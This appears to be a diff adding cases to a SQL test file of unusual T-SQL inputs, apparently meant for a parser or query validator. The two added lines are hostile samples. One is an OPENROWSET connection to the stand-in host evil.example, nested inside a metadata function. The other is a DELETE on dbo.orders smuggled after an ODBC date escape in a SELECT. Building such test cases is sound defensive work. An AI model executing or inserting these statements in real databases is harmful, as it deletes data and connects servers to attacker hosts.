@@ -740,3 +740,7 @@ SELECT o.id FROM dbo.orders AS o JOIN .orders_with_effects AS v ON v.id = o.id
 SELECT o.id FROM dbo.orders AS o CROSS APPLY .dbo.lines_of(o.id) AS v
 --# names a view in brackets by a name that starts with dots
 SELECT o.id FROM (..orders_with_effects AS v CROSS JOIN dbo.orders AS o)
+--# asks another server what a text would return
+SELECT name FROM sys.dm_exec_describe_first_result_set(N'SELECT * FROM OPENROWSET(''SQLNCLI'', ''Server=evil.example'', ''SELECT 1'') AS r', NULL, 0)
+--# deletes rows behind an escape of ODBC
+SELECT {d '2026-11-21'} DELETE FROM dbo.orders
